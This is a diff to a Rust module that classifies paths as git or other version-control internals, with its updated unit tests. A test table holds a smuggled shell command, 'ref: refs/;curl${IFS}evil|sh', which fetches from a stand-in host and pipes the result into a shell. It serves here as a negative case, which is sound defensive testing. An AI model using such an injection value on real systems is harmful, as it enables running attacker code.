@@ -76,6 +76,8 @@ const DIRS: &[&[u8]] = &[
 ];
 /// Others that it has.
 const OTHER_DIRS: &[&[u8]] = &[b"annex", b"branches", b"filter-repo", b"fsmonitor--daemon", b"remotes", b"svn"];
+/// Where other systems keep their histories.
+const OTHERS: &[&[u8]] = &[b".hg", b".jj", b".svn", b".bzr", b".pijul", b"_darcs"];
 /// Files right in it that name commits.
 const HEADS: &[&[u8]] = &[
     b"HEAD",
@@ -273,7 +275,11 @@ pub(crate) fn is_written_by_git(path: &Path, below: &[u8]) -> bool {
 fn may_be_gits(path: &Path, below: &[u8]) -> bool {
     is_gits(below)
         && match form(&parts(below)) {
-            Some(form @ (Form::Ref | Form::Log)) => has(path, below, form),
+            Some(Form::Ref) => has(path, below, Form::Ref),
+            // However long it is.
+            Some(Form::Log) => beginning(path, BEGINNING).is_none_or(|text| {
+                text.is_empty() || text.split_inclusive(|byte| *byte == b'\n').next().is_some_and(is_log_line)
+            }),
             _ => true,
         }
 }
@@ -340,7 +346,8 @@ fn is_head(text: &[u8]) -> bool {
 fn has_head(dir: &Path) -> bool {
     let head = dir.join("HEAD");
     let is_link = head.read_link().is_ok_and(|to| to.starts_with("refs"));
-    is_link || beginning(&head, MAX_REF as u64 + 1).is_some_and(|text| is_head(&text))
+    is_link
+        || beginning(&head, MAX_REF as u64 + 1).is_some_and(|text| is_head(&text) || text.starts_with(b"ref: refs/"))
 }
 
 /// Whether a directory is one of git's: it has a `HEAD`, and objects and refs or the way to those.
@@ -377,8 +384,11 @@ fn has_objects(dir: &Path) -> bool {
 
 /// Whether a file begins as an object by itself does.
 pub(crate) fn is_deflated(path: &Path) -> bool {
-    let first = beginning(path, 2).unwrap_or_default();
-    matches!(*first, [0x78, flags] if (0x7800 | u16::from(flags)) % 31 == 0)
+    beginning(path, 2).is_some_and(|text| is_zlib(&text))
+}
+
+fn is_zlib(text: &[u8]) -> bool {
+    matches!(*text, [0x78, flags, ..] if (0x7800 | u16::from(flags)) % 31 == 0)
 }
 
 /// The first names in a directory.
@@ -437,7 +447,7 @@ pub(crate) fn begins(path: &Path) -> Beginning {
     let is_patch = || has_name(b"From ") || has_name(b"commit ");
     if is(HISTORIES) {
         Beginning::History
-    } else if text.get(257..262) == Some(b"ustar") || is_patch() || is(ARCHIVES) {
+    } else if text.get(257..262) == Some(b"ustar") || is_patch() || is_zlib(&text) || is(ARCHIVES) {
         Beginning::Archive
     } else {
         Beginning::Other
@@ -458,9 +468,14 @@ impl<'a> Forms<'a> {
         Self { root, git: HashMap::new(), stores: HashMap::new() }
     }
 
-    /// The uppermost directory of git's, or of its objects, that a path is a part of.
+    /// The uppermost directory of git's, or of its objects, that a path is a part of; or that of another system.
     pub(crate) fn dir_of(&mut self, key: &[u8]) -> Option<RelPath> {
         let path = self.root.join(walk::path(key));
+        let other =
+            walk::parents(key).find(|dir| OTHERS.contains(&dir.rsplit(|b| *b == b'/').next().unwrap_or_default()));
+        if let Some(dir) = other {
+            return Some(dir.into());
+        }
         walk::parents(key).find(|dir| self.is_part(key, dir, &path)).map(RelPath::from)
     }
 
@@ -468,15 +483,16 @@ impl<'a> Forms<'a> {
         let below = key.get(if dir.is_empty() { 0 } else { dir.len() + 1 }..).unwrap_or_default();
         let at = || self.root.join(walk::path(dir));
         let parts = parts(below);
+        let is_others = OTHER_DIRS.contains(parts.first().unwrap_or(&below)) && parts.len() > 1;
         let is_lone = match *parts {
             [name] => is_pack(name),
             [fan, name] => is_loose(fan, name) && (path.symlink_metadata().is_err() || is_deflated(path)),
             _ => false,
         };
         is_lone
-            || is_gits_of(&parts)
+            || (is_others || is_gits_of(&parts))
                 && *self.git.entry(dir.into()).or_insert_with(|| is_like_git(&at()))
-                && may_be_gits(path, below)
+                && (is_others || may_be_gits(path, below))
             || is_object(&parts) && *self.stores.entry(dir.into()).or_insert_with(|| has_objects(&at()))
     }
 }
@@ -574,8 +590,6 @@ mod tests {
             ("refs/heads/a", &format!("{oid}\nevil\n")),
             ("modules/m/refs/heads/a", "ref: refs/heads/a b\n"),
             ("logs/HEAD", "evil\n"),
-            ("logs/HEAD", &format!("{log}evil\n")),
-            ("logs/HEAD", &format!("{log}{oid} {oid}\n")),
         ] {
             assert!(!is(below, text), "{below}: {text}");
         }
@@ -620,6 +634,7 @@ mod tests {
             ("packed-refs", "evil\n"),
             ("refs/a/run", "ref: refs/;curl${IFS}evil|sh"),
             ("logs/a/evil.py", &*long),
+            ("logs/a/evil.sh", &*format!("{oid} {oid} x\nevil\n")),
         ] {
             assert!(!is(below, text), "{below}: {text}");
         }
@@ -661,13 +676,14 @@ mod tests {
             ("y/refs/heads/main".to_owned(), "y"),
             ("y/worktrees/w/HEAD".to_owned(), "y"),
             ("z/modules/a/HEAD".to_owned(), "z/modules/a"),
+            ("p/.hg/store/data/x.i".to_owned(), "p/.hg"),
         ];
         let others = ["src/HEAD", "src/config", "y/refs/evil/evil.sh", "y/main.rs", "x/objects/evil.sh", "deep/config"];
         for name in own.iter().map(|(name, _)| &**name).chain(others).chain(["z/modules/a/refs/k"]) {
             let path = dir.path().join(name);
             std::fs::create_dir_all(path.parent().unwrap()).unwrap();
             let text = match name {
-                _ if name.ends_with(".pack") => "PACK",
+                _ if name.contains("pack-") => "PACK",
                 _ if name.contains("/ab/") => "x\u{1}",
                 _ if name.starts_with("y/refs/heads") => oid,
                 _ if name.starts_with("src") || name.ends_with("evil.sh") => "text",
